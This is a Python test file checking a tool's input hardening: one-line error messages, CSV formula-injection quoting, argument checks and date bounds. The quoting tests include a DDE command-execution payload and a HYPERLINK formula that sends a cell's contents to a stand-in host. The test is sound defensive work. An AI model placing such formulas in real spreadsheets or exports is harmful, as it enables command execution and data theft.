"""The pieces that keep hostile text harmless: error lines, formula quoting, the argv boundary, dates."""

from __future__ import annotations

import datetime as dt

import pytest
from hypothesis import given
from hypothesis import strategies as st

from commands import formulas, tabular
from commands.boundary import problem
from commands.messages import MAX_LINE, one_line, shown


# ---- error lines ------------------------------------------------------------------------------
@given(st.text(alphabet=st.characters(), max_size=3000))
def test_an_error_line_is_one_printable_bounded_line(text: str) -> None:
    line = one_line(text)
    assert "\n" not in line and "\r" not in line
    assert line.isprintable()
    assert len(line) <= MAX_LINE + 40
    line.encode("utf-8")  # no lone surrogate left to break a terminal or a log


def test_an_error_line_keeps_the_field_and_shows_escapes() -> None:
    assert one_line("--name: contains \x1b[31m and \u202e and \ud800") == (
        "--name: contains \\x1b[31m and \\u202e and \\ud800"
    )
    huge = one_line("Invalid value for '--lang': " + repr("A" * 100_000) + " is not one of 'en', 'zh'.")
    assert huge.startswith("Invalid value for '--lang': 'AAAA") and huge.endswith("is not one of 'en', 'zh'.")
    assert "(100002 characters)" in huge and len(huge) < 300


def test_shown_cuts_a_long_value() -> None:
    assert shown("x" * 10) == "'xxxxxxxxxx'"
    assert shown("x" * 100, 5) == "'xxxxx'…(100 characters)"


# ---- formulas ---------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "text, quoted",
    [
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ('=HYPERLINK("http://x?"&A1,"x")', "'=HYPERLINK(\"http://x?\"&A1,\"x\")"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1+1", "''=1+1"),
        ("'abc", "'abc"),
        ("送米送油", "送米送油"),
        ("2026-03-05", "2026-03-05"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_quote(text: str, quoted: str) -> None:
    assert formulas.quote(text) == quoted
    assert formulas.unquote(quoted) == text
    assert not formulas.quote(text).startswith(formulas.TRIGGERS)


@given(st.text())
def test_quote_round_trips_every_text(text: str) -> None:
    assert formulas.unquote(formulas.quote(text)) == text
    assert not formulas.quote(text).startswith(formulas.TRIGGERS)


# ---- the command-line boundary ----------------------------------------------------------------
@pytest.mark.parametrize(
    "value, is_path, wanted",
    [
        ("HZ-001", False, None),
        ("a\x00b", False, "NUL"),
        ("a\x00b.csv", True, "NUL"),
        ("x\udcff", False, "not valid UTF-8"),
        ("x\udcff.csv", True, None),  # a file name may be any bytes
        (("R1", "R\ud800"), False, "not valid UTF-8"),
        (42, False, None),
        (None, False, None),
    ],
)
def test_boundary_problem(value: object, is_path: bool, wanted: str | None) -> None:
    found = problem(value, is_path=is_path)
    assert (found is None) if wanted is None else (found is not None and wanted in found)


# ---- absurd dates ------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "value",
    ["0000-00-00", "0001-01-01", "0001-01-01T00:00+14:00", "9999-12-31", "9999-12-31T23:59-23:59", "1899-12-31",
     dt.datetime(1, 1, 1), dt.date(9999, 12, 31), "3000-01-01"],
)  # fmt: skip
def test_dates_outside_the_ledgers_years_are_not_dates(value: object) -> None:
    with pytest.raises(tabular.CellError, match="not a date"):
        tabular.parse_datetime(value)
    with pytest.raises(tabular.CellError, match="not a date"):
        tabular.parse_date(value)


def test_the_ledgers_years_are_dates() -> None:
    assert tabular.parse_date("1900-01-01") == dt.date(1900, 1, 1)
    assert tabular.parse_datetime("2999-12-31T23:59+14:00")[0].year == 2999
